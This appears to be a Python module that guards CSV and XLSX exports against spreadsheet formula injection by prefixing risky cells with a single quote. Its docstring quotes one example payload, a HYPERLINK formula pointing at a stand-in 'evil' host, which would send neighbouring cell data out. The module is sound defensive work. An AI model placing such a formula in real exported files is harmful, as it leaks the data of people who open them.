"""Cells for CSV and XLSX files that people open in Excel or WPS: never a formula.

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheet
programs skip before reading a formula) is run as a formula when the file is opened:
`=HYPERLINK("http://evil/?"&A1, "点击")` in a petition's description would send the neighbouring
cells away. Every writer of CSV/XLSX passes its values through `safe_cell` (OWASP's advice: prefix
a single quote, which the spreadsheet shows as text and hides).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
